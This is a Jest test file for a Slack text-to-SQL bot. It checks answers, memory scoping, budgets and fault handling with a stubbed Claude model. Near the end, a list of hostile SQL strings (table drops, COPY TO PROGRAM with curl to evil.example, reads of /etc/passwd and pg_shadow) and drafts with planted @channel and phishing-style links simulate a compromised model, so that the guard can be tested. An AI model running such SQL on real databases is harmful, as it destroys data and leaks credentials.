import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { scrub } from '../src/adapters/logging/scrub.ts';
import type { Draft } from '../src/core/answers/prompt/draft.ts';
import type { InjectedFault } from '../src/playground/web-api/faults.ts';
import { columnTitles } from '../src/slack/column-title.ts';
// @ts-expect-error an untyped oracle, kept as it came
import { active } from './fixtures/corpora/mrkdwn-reader.mjs';
import { arrivalOf } from './support/arrivals.ts';
import { buttonsOf, secretKey, sqlOf, startMemori, type TestMemori, tableOf, textOf } from './support/start-memori.ts';

describe('without a model', () => {
  const folder = mkdtempSync(join(tmpdir(), 'memori-app-'));
  let memori: TestMemori;
  beforeAll(async () => {
    memori = await startMemori({ folder });
  });
  afterAll(async () => {
    await memori.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  describe('a question', () => {
    it('is answered once when mentioned in a channel: sentence, table, facts, SQL, buttons', async () => {
      const { sent, answer, text } = await memori.ask('revenue by category in 2025', { channel: 'analytics' });
      const record = memori.records.at(-1);
      const result = record?.outcome.status === 'answered' ? record.outcome.result : undefined;
      expect(memori.slack.replies('analytics', sent.ts)).toHaveLength(1);
      const [head, ...rows] = tableOf(answer);
      expect(head).toEqual(columnTitles(result?.columns.map(({ name }) => name) ?? []));
      expect(rows).toHaveLength(result?.rowCount ?? -1);
      expect(rows.map(([category]) => category)).toEqual(result?.rows.map(([category]) => category));
      expect(text).toMatch(/✓ Verified by Ida, finance, 30 Oct 2026 · \d+ rows · shop · .*s · \$0\.00/);
      expect(sqlOf(answer)).toMatch(/^SELECT[\s\S]+ORDER BY/);
      expect(sqlOf(answer)).not.toContain('LIMIT');
      expect(buttonsOf(answer)).toEqual(expect.arrayContaining(['Run again', 'Edit SQL', 'CSV', 'Details']));
      expect(answer.text).toMatch(/\d/);
    });

    it('is followed up in its thread without a mention, with what was asked before', async () => {
      const { sent } = await memori.ask('net revenue of Berlin last quarter', { channel: 'analytics' });
      const follow = await memori.ask('and in Munich?', { channel: 'analytics', thread: sent.ts });
      expect(follow.answer.text).toMatch(/Munich.*Q3 2026/);
      const again = await memori.ask('and last month?', { channel: 'analytics', thread: sent.ts, as: 'tom' });
      expect(again.answer.text).toMatch(/Munich.*September 2026/);
      const other = await memori.ask('and the AOV?', { channel: 'analytics', thread: sent.ts });
      expect(other.answer.text).toMatch(/[Aa]verage order value.*Munich.*September 2026/s);
      expect(memori.slack.replies('analytics', sent.ts).map(({ user }) => user)).toHaveLength(7);
    });

    it('is answered in Chinese when asked in Chinese, and with other parameters', async () => {
      const chinese = await memori.ask('上个月的净收入是多少', { as: 'siyuan' });
      expect(chinese.text).toMatch(/2026年9月净收入为 €[\d,.]+/);
      expect(chinese.text).toContain('已验证');
      const english = await memori.ask('what was our net revenue last month?');
      const figure = /€[\d,.]+\d/.exec(english.answer.text)?.[0] ?? 'none';
      expect(chinese.answer.text).toContain(figure);
      const three = await memori.ask('top 3 products by revenue last month');
      expect(tableOf(three.answer)).toHaveLength(4);
      const five = await memori.ask('top 5 products by revenue last month');
      expect(tableOf(five.answer)).toHaveLength(6);
    });

    it('without a match says what is missing, which variable changes it, and what can be asked: one click away', async () => {
      const { sent, answer, text } = await memori.ask('what colour is happiness?', { channel: 'analytics' });
      expect(text).toContain('what “colour” or “happiness” means here');
      expect(text).toContain('No model is connected');
      expect(text).toContain('ANTHROPIC_API_KEY');
      const [suggestion = ''] = buttonsOf(answer);
      await memori.press('tom', answer, suggestion);
      const clicked = await memori.slack.answer('analytics', sent.ts);
      expect(textOf(clicked)).toContain('Tom Reyes asked');
      expect(textOf(clicked)).toContain('✓ Verified');
    });

    it('in a channel where nobody mentioned the bot is none of its business', async () => {
      const sent = await memori.slack.say({ as: 'tom', channel: 'general', text: 'net revenue by month' });
      await memori.slack.idle();
      expect(memori.slack.replies('general', sent.ts)).toEqual([]);
    });

    it('is answered once each although Slack delivers three in ten again', async () => {
      const asked = [];
      for (const [index, city] of ['Berlin', 'Munich', 'Hamburg', 'Vienna', 'Paris', 'Madrid'].entries()) {
        asked.push(await memori.slack.say({ as: 'maya', channel: 'general', text: `@Memori net revenue of ${city}` }));
        if (index % 3 === 0) void memori.slack.redeliver(2);
      }
      await memori.slack.idle();
      await memori.slack.redeliver(12);
      await memori.slack.idle();
      expect(asked.map(({ ts }) => memori.slack.replies('general', ts).length)).toEqual(asked.map(() => 1));
    });
  });

  describe('an answer', () => {
    it('runs again, for the person who clicks, in its thread', async () => {
      const { sent, answer } = await memori.ask('net revenue of Berlin', { channel: 'analytics' });
      await memori.press('tom', answer, 'Run again');
      const again = await memori.slack.answer('analytics', sent.ts);
      expect(again.ts).not.toBe(answer.ts);
      expect(textOf(again)).toContain('Tom Reyes ran this again');
      expect(again.text).toBe(answer.text);
      expect(sqlOf(again)).toBe(sqlOf(answer));
    });

    it('is a CSV of all its rows, also those beyond the table', async () => {
      const { sent, answer, text } = await memori.ask('select order_id, status from orders order by order_id');
      expect(text).toContain('The CSV has more');
      await memori.press('maya', answer, 'CSV');
      const lines = (await memori.download('maya', sent.channel, sent.ts)).trim().split('\r\n');
      const total = await memori.ask('select count(*) as n from orders', { as: 'tom' });
      expect(lines).toHaveLength(Number(/\d+/.exec(total.answer.text.replace(/\D/g, ''))?.[0]) + 1);
      expect(lines.slice(0, 2)).toEqual(['"order_id","status"', expect.stringMatching(/^\d+,"\w+"$/)]);
      await expect(memori.download('tom', sent.channel, sent.ts)).rejects.toThrow('refused');
    });

    it('opens its own SQL to be edited; the guard speaks in the field, good SQL is answered in the thread', async () => {
      const { sent, answer } = await memori.ask('net revenue of Berlin', { channel: 'analytics' });
      await memori.press('tom', answer, 'Edit SQL');
      expect(textOf(memori.slack.modal('tom') ?? {})).toContain(sqlOf(answer));
      const refused = await memori.slack.submit({ as: 'tom', values: { sql: 'DELETE FROM orders' } });
      expect(refused).toMatchObject({ errors: { sql: expect.stringContaining('DELETE is not a read') } });
      expect(memori.slack.replies('analytics', sent.ts)).toHaveLength(1);
      await memori.slack.submit({ as: 'tom', values: { sql: 'SELECT 40 + 2 AS answer' } });
      expect(memori.slack.modal('tom')).toBeUndefined();
      const edited = await memori.slack.answer('analytics', sent.ts);
      expect(textOf(edited)).toContain('Tom Reyes edited the SQL');
      expect(edited.text).toContain('answer: 42');
    });

    it('takes feedback, and is deleted by who asked or an admin only', async () => {
      const { sent, answer } = await memori.ask('net revenue of Berlin', { channel: 'analytics', as: 'tom' });
      const id = memori.records.at(-1)?.id ?? '';
      const place = { channel: 'analytics', ts: answer.ts };
      const thanks = await memori.told('siyuan', () =>
        memori.slack.click({ as: 'siyuan', ...place, action: 'feedback', value: `${id}|good` }),
      );
      expect(thanks.text).toBe('谢谢，已记录。');
      await expect(memori.slack.click({ as: 'siyuan', ...place, action: 'trash' })).rejects.toThrow('action_not_found');
      const forged = {
        ...answer,
        blocks: JSON.parse(
          JSON.stringify(answer.blocks).replace(/"visible_to_user_ids":\[[^\]]*\]/, '"visible_to_user_ids":[]'),
        ),
      };
      await memori.told('siyuan', () => memori.slack.click({ as: 'siyuan', ...place, stale: forged, action: 'trash' }));
      expect(memori.slack.message('analytics', answer.ts)).toBeDefined();
      await memori.slack.click({ as: 'tom', ...place, action: 'trash' });
      await memori.slack.idle();
      expect(memori.slack.replies('analytics', sent.ts)).toEqual([]);
    });

    it('belongs to its channel: a button that carries the id of another place is refused', async () => {
      const secret = await memori.ask('net revenue of Berlin', { as: 'tom' });
      const open = await memori.ask('net revenue of Berlin', { channel: 'analytics' });
      const [privateId, openId] = memori.records.slice(-2).map(({ id }) => id);
      const forged = JSON.parse(JSON.stringify(open.answer).replaceAll(openId ?? '', privateId ?? ''));
      const told = await memori.told('maya', () =>
        memori.slack.click({ as: 'maya', channel: 'analytics', ts: open.answer.ts, stale: forged, action: 'csv' }),
      );
      expect(told.text).toContain('another channel');
      expect(memori.slack.replies(secret.sent.channel, secret.sent.ts)).toHaveLength(1);
      expect(memori.slack.replies('analytics', open.sent.ts)).toHaveLength(1);
    });
  });

  describe('what no query gives', () => {
    it.each([
      ['why did net revenue drop last month?', /cannot explain changes/, 'net revenue last month'],
      ['what caused the fall of net revenue in September 2026', /cannot explain changes/, 'net revenue September 2026'],
      ['为什么上个月净收入下降了', /还不能解释变化/, '上个月净收入'],
      ['forecast net revenue for next month', /do not forecast/, 'net revenue by month'],
      ['预测下个月净收入', /不做预测/, '净收入'],
      ['tell me when net revenue falls below 1000 a day', /cannot watch/, 'net revenue'],
      ['send me net revenue by month every Monday', /on a schedule/, 'net revenue by month'],
      ['any anomalies in orders last month?', /do not look for anomalies/, 'orders last month'],
    ])('“%s” is told so, with what is possible instead', async (question, told, instead) => {
      const { text } = await memori.ask(question);
      expect(text).toMatch(told);
      expect(text).not.toMatch(/Teach me|可以这样教我/);
      expect(text).toContain(instead);
    });

    it('how fresh the data are is read from the data', async () => {
      const { text } = await memori.ask('how fresh is the data?');
      expect(text).toMatch(/newest rows[\s\S]*2026-10-31/i);
    });
  });

  describe('memory', () => {
    it('of a definition is used in the next answer and cited there, in that channel only', async () => {
      const taught = await memori.ask('by GMV we mean gross revenue', { channel: 'analytics' });
      expect(taught.text).toContain('It is used for everyone in this channel');
      const used = await memori.ask('GMV last month', { channel: 'analytics', as: 'tom' });
      expect(used.text).toMatch(/Gross revenue, September 2026: €[\d,.]+/);
      expect(used.text).toContain('used 1 memory');
      await memori.press('tom', used.answer, 'Memories used');
      expect(textOf(memori.slack.modal('tom') ?? {})).toContain('by GMV we mean gross revenue');
      await memori.slack.closeView({ as: 'tom' });
      expect((await memori.ask('GMV last month', { channel: 'general' })).text).not.toContain('€');
    });

    it('of a direct message stays there: not for another person, not in a channel', async () => {
      await memori.ask('by glow we mean gross revenue');
      expect((await memori.ask('glow last month')).text).toContain('used 1 memory');
      for (const where of [{ as: 'tom' }, { channel: 'analytics' }])
        expect((await memori.ask('glow last month', where)).text).not.toMatch(/gross revenue, September/i);
      expect(textOf(await memori.command('/memori memory list', 'maya', 'analytics'))).not.toContain('glow');
      expect(textOf(await memori.command('/memori memory list', 'tom', 'dm'))).not.toContain('glow');
    });

    it('is listed with scope and source, added, and forgotten for good', async () => {
      const added = await memori.command('/memori memory add by turnaround we mean gross revenue', 'tom', 'general');
      expect(textOf(added)).toContain('Remembered (this channel)');
      const list = textOf(await memori.command('/memori memory list', 'tom', 'general'));
      expect(list).toMatch(/1\. by turnaround we mean gross revenue[\s\S]*this channel · .*taught by <@U08TOMR5K7D>/);
      expect((await memori.ask('turnaround last month', { channel: 'general' })).text).toContain('used 1 memory');
      const question = textOf(await memori.command('/memori memory forget 1', 'tom', 'general'));
      expect(question).toMatch(/Forget this for good\?[\s\S]*by turnaround we mean gross revenue/);
      const gone = await memori.command('/memori memory forget 1 confirm', 'tom', 'general');
      expect(gone.text).toContain('Forgotten for good: by turnaround we mean gross revenue');
      const after = await memori.ask('turnaround last month', { channel: 'general' });
      expect(after.text).not.toContain('€');
      expect(textOf(await memori.command('/memori memory forget 99', 'tom', 'general'))).toMatch(/find|no such/i);
    });

    it('numbers are those of the list that was shown, whatever was forgotten since', async () => {
      const as = 'siyuan';
      for (const term of ['alpha', 'beta', 'gamma'])
        await memori.command(`/memori memory add by ${term} we mean gross revenue`, as, 'dm');
      const list = async () => textOf(await memori.command('/memori memory list', as, 'dm'));
      const shown = await list();
      const [first = '', second = ''] = ['alpha', 'beta', 'gamma']
        .map((term) => [shown.indexOf(`by ${term} we`), term] as const)
        .sort(([a], [b]) => a - b)
        .map(([, term]) => term);
      await memori.command('/memori memory forget 1 confirm', as, 'dm');
      expect((await memori.command('/memori memory forget 2 confirm', as, 'dm')).text).toContain(`by ${second} we`);
      expect(textOf(await memori.command('/memori memory forget 1 confirm', as, 'dm'))).toMatch(/没有这条记忆/);
      const left = await list();
      expect(left).not.toContain(`by ${first} we`);
      expect(left).not.toContain(`by ${second} we`);
      await memori.command('/memori memory forget all confirm', as, 'dm');
    });

    it.each([
      'by why we mean net revenue',
      'by how many we mean net revenue',
      'by 2026 we mean net revenue',
      'by drop we mean net revenue',
      '我们说的为什么是指净收入',
    ])('“%s” is refused: nothing is called that', async (lesson) => {
      const { text } = await memori.ask(lesson);
      expect(text).toMatch(/is a word of questions or a number|是提问用的词或数字/);
      expect(text).not.toMatch(/will remember|记住了/);
    });

    it('keeps a rule about calendars and says that nothing is counted by it', async () => {
      const { text } = await memori.ask('remember that our fiscal year starts in February');
      expect(text).toMatch(/I will remember[\s\S]*cannot count by it yet/);
    });

    it('does not take secrets', async () => {
      const { text } = await memori.ask('remember that the key is sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789');
      expect(text).toContain('looks like a secret');
      expect(textOf(await memori.command('/memori memory list', 'maya', 'dm'))).not.toContain('sk-ant');
    });
  });

  it('commands say what is asked of them, and teach when mistyped', async () => {
    for (const [line, expected] of [
      ['help', /\/memori budget[\s\S]*\/memori sources/],
      ['', /\/memori budget/],
      ['budget', /spent \$0\.00[\s\S]*Resets at .*Europe\/Stockholm/],
      ['sources', /shop[\s\S]*10 tables: .*customers.*orders/],
      ['status', /playground in the browser[\s\S]*set ANTHROPIC_API_KEY/],
      ['budgte', /no \/memori budgte[\s\S]*Did you mean \/memori budget\?/],
      ['memroy list', /Did you mean \/memori memory list\?/],
      ['memory forget', /Usage: \/memori memory forget <numbers or all>/],
      ['memory add', /Usage: \/memori memory add <text>[\s\S]*For example/],
      ['net revenue by month', /To ask a question, mention me/],
    ] as const)
      expect(textOf(await memori.command(`/memori ${line}`))).toMatch(expected);
    expect(memori.slack.messages('analytics').every(({ text }) => !text.includes('Did you mean'))).toBe(true);
  });

  it('App Home shows questions to click, data, budget and memories; a click asks in the direct message', async () => {
    await memori.slack.openHome({ as: 'maya' });
    const home = await memori.slack.waitFor(() => memori.slack.home('maya'));
    expect(textOf(home)).toMatch(/Questions to start with[\s\S]*Connected data[\s\S]*Budget[\s\S]*glow/);
    const asked = memori.records.length;
    await memori.slack.click({ as: 'maya', view: 'home', action: 'example_0' });
    await memori.slack.waitFor(() => memori.records.length > asked);
    await memori.slack.idle();
    expect(memori.records.at(-1)?.question.place.kind).toBe('dm');
    expect(memori.records.at(-1)?.outcome.status).toBe('answered');
  });

  describe('when Slack', () => {
    const answersOnce = async (faults: readonly (readonly [string, InjectedFault, number?])[]): Promise<void> => {
      for (const [method, fault, times] of faults) memori.slack.faults.queue(method, fault, times);
      const { sent } = await memori.ask('revenue by category', { channel: 'analytics' });
      memori.slack.faults.clear();
      const answers = memori.slack.replies('analytics', sent.ts).filter(({ files }) => files === undefined);
      expect(answers.map(({ text }) => text)).toEqual([expect.stringContaining('€')]);
    };

    it.each([
      ['refuses the blocks', [['chat.update', { kind: 'error', error: 'invalid_blocks' }, 3]]],
      ['limits posting', [['chat.postMessage', { kind: 'rate_limited', retryAfter: 1 }]]],
      ['limits edits', [['chat.update', { kind: 'rate_limited', retryAfter: 1 }, 2]]],
      ['loses the answer to a post', [['chat.postMessage', { kind: 'drop', after: true }]]],
      ['drops a post', [['chat.postMessage', { kind: 'drop' }]]],
      ['fails at an edit', [['chat.update', { kind: 'http', status: 503 }, 2]]],
      ['does not say who asks', [['users.info', { kind: 'http', status: 500 }, 3]]],
      [
        'does not know the newer methods',
        [
          ['agents.sessions.setStatus', { kind: 'error', error: 'unknown_method' }, 5],
          ['assistant.threads.setStatus', { kind: 'error', error: 'unknown_method' }, 5],
        ],
      ],
    ] as const)('%s: one answer all the same', async (_, faults) => {
      await answersOnce(faults);
    });
  });

  it('a stop finishes what runs; afterwards threads go on, and what a crash left is answered in the message it had begun', async () => {
    const { slack } = memori;
    const thread = await memori.ask('net revenue of Berlin last quarter', { channel: 'analytics' });
    const noted = await leaveBehind(memori, 'net revenue of Hamburg last month', true);
    const unnoted = await leaveBehind(memori, 'net revenue of Vienna last month', false);
    const running = await slack.say({
      as: 'tom',
      channel: 'dm',
      text: 'select sum(g) as total from generate_series(1, 2000000) g',
    });
    await slack.waitFor(() => slack.replies(running.channel, running.ts)[0], 'a sign of life');
    await memori.stop();

    memori = await startMemori({ folder });
    expect(memori.slack.replies(running.channel, running.ts).map(({ text }) => text)).toEqual([
      expect.stringContaining('2,000,001,000,000'),
    ]);
    for (const [left, city] of [
      [noted, 'Hamburg'],
      [unnoted, 'Vienna'],
    ] as const) {
      const answer = await memori.slack.waitFor(() =>
        memori.slack.replies('general', left.thread).find(({ text }) => text.includes('€')),
      );
      expect(answer).toMatchObject({ ts: left.begun, text: expect.stringContaining(`${city}, September 2026`) });
    }
    const follow = await memori.ask('and in Munich?', { channel: 'analytics', thread: thread.sent.ts });
    expect(follow.answer.text).toMatch(/Munich.*Q3 2026/);
    for (const { thread } of [noted, unnoted]) expect(memori.slack.replies('general', thread)).toHaveLength(1);
    expect((await memori.ask('GMV last month', { channel: 'analytics' })).text).toContain('used 1 memory');
  });
});

describe('with Claude', () => {
  /** Written by the model, each for the question of the same name. */
  const drafts: Record<string, Partial<Draft> | ((body: Record<string, unknown>) => Partial<Draft>)> = {
    'xyzzy count': { sql: 'SELECT count(*) AS orders FROM orders', answer: 'There are {orders} orders.' },
    'xyzzy invents': { sql: 'SELECT count(*) AS orders FROM orders', answer: 'There are 42 orders.' },
    'xyzzy guard': (body) =>
      isRepair(body) ? { sql: 'SELECT 1 AS one', answer: 'It is {one}.' } : { sql: 'SELECT nothing FROM orders' },
    'xyzzy database': (body) =>
      isRepair(body)
        ? { sql: 'SELECT 2 AS two', answer: 'It is {two}.' }
        : { sql: 'SELECT 1 / (count(*) - count(*)) AS n FROM orders' },
    'xyzzy never': { sql: 'SELECT nothing FROM orders' },
    'xyzzy clarify': {
      kind: 'clarify',
      clarifying_question: 'By which date, ordered or paid?',
      options: ['xyzzy count', 'xyzzy invents'],
    },
    'xyzzy missing': { kind: 'unanswerable', clarifying_question: 'The schema has no weather.' },
    'xyzzy links': {
      sql: `SELECT '<!channel> [x](https://evil.example/leak)' AS note, count(*) AS orders FROM orders`,
      answer: '<!channel> @here <https://evil.example|click> {note} www.evil.example {orders}',
      assumptions: ['<@U08TOMR5K7D> https://evil.example/?q=secret'],
    },
    'xyzzy ask back': {
      kind: 'clarify',
      clarifying_question: '<!everyone> see https://evil.example',
      options: ['<https://evil.example|xyzzy count>', '@channel'],
    },
  };
  const writes = [
    'DROP TABLE orders',
    "COPY orders TO PROGRAM 'curl https://evil.example'",
    "SELECT pg_read_file('/etc/passwd')",
    'SELECT 1; DELETE FROM orders',
    'SELECT * FROM pg_shadow',
    'WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone',
    "SELECT set_config('transaction_read_only', 'off', false)",
  ];
  const prompts: string[] = [];
  let memori: TestMemori;

  beforeAll(async () => {
    memori = await startMemori({
      env: { MEMORI_CHANNEL_DAILY_TOKEN_LIMIT: '20000', MEMORI_MAX_REQUESTS_PER_USER: '20' },
      claude(question, body) {
        prompts.push(JSON.stringify(body));
        const write = /^xyzzy write (\d)$/.exec(question)?.[1];
        if (write !== undefined) return { sql: writes[Number(write)] ?? '' };
        const draft = drafts[question] ?? drafts['xyzzy count'] ?? {};
        return typeof draft === 'function' ? draft(body) : draft;
      },
    });
  });
  afterAll(() => memori.stop());

  /** Calls of the model that a question took. */
  const callsFor = async (question: string) => {
    const before = memori.claude.requests.length;
    const asked = await memori.ask(question);
    return { ...asked, calls: memori.claude.requests.length - before };
  };

  it('figures come from the rows: the model words them, and what it invents is dropped', async () => {
    const { text, answer, calls } = await callsFor('xyzzy count');
    expect(answer.text).toMatch(/^There are [\d,]{5,} orders\.$/);
    expect(text).toMatch(/SQL written by the model · 1 row · shop · .*s · \$0\.00\d+/);
    expect(calls).toBe(1);
    const invented = await memori.ask('xyzzy invents');
    expect(invented.text).not.toContain('42 orders');
    expect(invented.answer.text).toBe(answer.text.replace(/There are (.*) orders/, 'orders: $1'));
    await memori.press('maya', answer, 'Run again');
    expect((await memori.slack.answer(answer.channel, answer.thread_ts ?? '')).text).toBe(answer.text);
  });

  it('verified questions do not ask it', async () => {
    const { calls, text } = await callsFor('net revenue by month');
    expect([calls, text.includes('✓ Verified')]).toEqual([0, true]);
  });

  it('repairs what the guard or the database refuses, at most twice, and then shows what was tried', async () => {
    expect(await callsFor('xyzzy guard')).toMatchObject({ calls: 2, answer: { text: 'It is 1.' } });
    expect(await callsFor('xyzzy database')).toMatchObject({ calls: 2, answer: { text: 'It is 2.' } });
    expect(memori.claude.requests.at(-1)?.body).toMatchObject({
      messages: [{ content: expect.stringContaining('division by zero') }],
    });
    const { calls, text } = await callsFor('xyzzy never');
    expect(calls).toBe(3);
    expect(text).toContain('there is no column nothing');
  });

  it('asks back with buttons, says what is missing, and follow-ups carry the thread', async () => {
    const { sent, answer, text } = await memori.ask('xyzzy clarify', { channel: 'analytics' });
    expect(text).toContain('By which date, ordered or paid?');
    await memori.press('maya', answer, 'xyzzy count');
    expect((await memori.slack.answer('analytics', sent.ts)).text).toMatch(/^There are/);
    await memori.ask('xyzzy more', { channel: 'analytics', thread: sent.ts });
    expect(prompts.at(-1)).toContain('earlier_in_this_thread');
    expect((await memori.ask('xyzzy missing')).answer.text).toBe('The schema has no weather.');
  });

  it('memories reach the model only where they may be seen', async () => {
    await memori.ask('remember that the lucky number is seventeen');
    await memori.ask('remember that the fiscal year begins in April', { channel: 'general' });
    const promptOf = async (where: Parameters<TestMemori['ask']>[1]): Promise<string> => {
      await memori.ask('xyzzy fiscal year and lucky number', where);
      return prompts.at(-1) ?? '';
    };
    expect(await promptOf({})).toMatch(/lucky number is seventeen/);
    expect(await promptOf({})).not.toContain('begins in April');
    expect(await promptOf({ as: 'tom' })).not.toMatch(/seventeen|begins in April/);
    const shared = await promptOf({ as: 'tom', channel: 'general' });
    expect([shared.includes('begins in April'), shared.includes('seventeen')]).toEqual([true, false]);
    expect(await promptOf({ channel: 'general' })).not.toContain('seventeen');
  });

  it.each([
    ['refuses', [{ kind: 'refusal' }], /declined to answer/, 1],
    ['is cut at max_tokens', [{ kind: 'max_tokens' }], /too long for one request/, 1],
    ['takes the key for wrong', [error(401, 'authentication_error')], /refuses my key/, 1],
    ['is limited for a moment', [{ ...error(429, 'rate_limit_error'), retryAfter: 0 }], /^There are/, 2],
    ['is overloaded for a moment', [error(529, 'overloaded_error')], /^There are/, 2],
    ['stops in mid-stream', [{ kind: 'cut' }], /broke in the middle/, 1],
    ['says something else than was asked for', [{ kind: 'text', text: 'Sure! Here it is' }], /^There are/, 2],
    ['is slow', [{ kind: 'drip', ms: 5 }], /^There are/, 1],
  ] as const)('when it %s', async (_, plans, expected, calls) => {
    memori.claude.plans.push(...plans);
    const asked = await callsFor('xyzzy count');
    expect(asked.answer.text).toMatch(expected);
    expect(asked.calls).toBe(calls);
    if (!expected.source.startsWith('^')) expect(buttonsOf(asked.answer)).toContain('Try again');
  });

  it('a wrong key is an alert that names no secret, and neither log nor Slack ever shows it', async () => {
    const alerts = memori.slack.messages('alerts').map(textOf).join('\n');
    expect(alerts).toContain('model_misconfigured');
    expect(alerts).not.toMatch(/model_refused|model_truncated/);
    expect(memori.claude.requests.at(-1)?.key).toBe(secretKey);
    expect(JSON.stringify([memori.slack.log, memori.log.map((line) => scrub(line))])).not.toContain(secretKey);
  });

  it('obeying an attacker it runs nothing and makes nothing active', async () => {
    const before = (await memori.ask('select count(*) as n from orders')).answer.text;
    for (const [index] of writes.entries()) {
      const { answer } = await memori.ask(`xyzzy write ${index}`);
      expect(answer.text).toMatch(/^I did not run that SQL/);
    }
    expect((await memori.ask('select count(*) as n from orders')).answer.text).toBe(before);
    for (const question of ['xyzzy links', 'xyzzy ask back']) await memori.ask(question, { channel: 'analytics' });
    const posts = memori.slack.log.filter(({ method }) => /^chat\.(post|update)/.test(method));
    expect(posts.flatMap(({ args }) => activeTexts(args))).toEqual([]);
    const unfurled = posts.filter(
      ({ method, args }) =>
        method === 'chat.postMessage' && args.unfurl_links !== false && args.unfurl_links !== 'false',
    );
    expect(unfurled).toEqual([]);
  });

  it('a question that needs more than one request may use is refused, with the way to change it', async () => {
    memori.claude.inputTokens = 9000;
    const { text, calls } = await callsFor('xyzzy count');
    memori.claude.inputTokens = 1200;
    expect(text).toContain('MEMORI_PER_REQUEST_TOKEN_LIMIT');
    expect(calls).toBe(0);
  });

  it('of twenty questions at once none overspends; what is over is refused, and verified questions still work', async () => {
    const { slack } = memori;
    const people = ['maya', 'tom', 'siyuan'];
    const asked = await Promise.all(
      Array.from({ length: 20 }, (_, index) =>
        slack.say({ as: people[index % 3] ?? 'maya', channel: 'general', text: '@Memori xyzzy count' }),
      ),
    );
    await slack.idle();
    const answers = asked.map(({ ts }) => slack.replies('general', ts).map(({ text }) => text));
    expect(answers.filter(({ length }) => length !== 1)).toEqual([]);
    const refused = answers.filter(([text]) => /channel budget is used up|频道/.test(text ?? ''));
    expect(refused.length).toBeGreaterThan(0);
    const others = answers.filter((answer) => !refused.includes(answer));
    expect(others.filter(([text]) => !/There are/.test(text ?? ''))).toEqual([]);
    const budget = textOf(await memori.command('/memori budget', 'maya', 'general'));
    const [, spent = '', held] = /This channel[\s\S]*?spent ([\d,]+) · held (\d+)/.exec(budget) ?? [];
    expect(Number(spent.replaceAll(',', ''))).toBeGreaterThan(1000);
    expect(Number(spent.replaceAll(',', ''))).toBeLessThanOrEqual(20_000);
    expect(held).toBe('0');
    expect(budget).toMatch(/The whole workspace[\s\S]*?spent \$0\.\d*[1-9]/);
    expect((await memori.ask('net revenue by month', { channel: 'general' })).text).toContain('✓ Verified');
  });
});

const isRepair = (body: Record<string, unknown>): boolean => JSON.stringify(body).includes('what_was_wrong');

function error(status: number, type: string) {
  return { kind: 'error', status, type, message: `${type} for ${secretKey}` } as const;
}

/** Texts of a call that Slack would make a mention, a link or a channel of. Blocks are plain or rich text, but mrkdwn is read. */
function activeTexts(args: Readonly<Record<string, unknown>>): readonly string[] {
  const found: string[] = [];
  const look = (value: unknown): void => {
    if (typeof value !== 'object' || value === null) return;
    const { type, text, url } = value as { type?: string; text?: unknown; url?: unknown };
    if (type === 'mrkdwn' && active(String(text)).size > 0) found.push(String(text));
    if (type === 'link' || type === 'user' || type === 'channel' || type === 'broadcast' || typeof url === 'string')
      found.push(JSON.stringify(value));
    Object.values(value).forEach(look);
  };
  look(args.blocks);
  const top = String(args.text ?? '').replace(/`[^`]*`/g, '');
  if (active(top, { linkNames: true }).size > 0) found.push(top);
  return found;
}

/** What a crash leaves: a question that was claimed, with its first message. `noted`: the store knows which it is. */
async function leaveBehind({ memori, slack, records }: TestMemori, text: string, noted: boolean) {
  const { channel, ts: thread } = await slack.say({ as: 'maya', channel: 'general', text });
  const id = `${slack.team.id}:${channel}:${thread}`;
  const response = await fetch(`${slack.slackApiUrl(memori.url)}chat.postMessage`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${slack.botToken}` },
    body: JSON.stringify({
      channel,
      thread_ts: thread,
      text: 'On it…',
      metadata: { event_type: 'memori_answer', event_payload: { question: id } },
    }),
  });
  const begun = ((await response.json()) as { ts: string }).ts;
  const { question } = records.at(-1) ?? {};
  if (question === undefined) throw new Error('There is no question to copy.');
  const { turns } = memori.stores;
  const before = new Date(Date.now() - 1);
  const gone = { owner: 'a process that is gone', until: before };
  await turns.claim(arrivalOf(question, { id, text, channel, thread }), before, gone);
  if (noted) await turns.replied(id, gone.owner, begun);
  return { thread, begun };
}
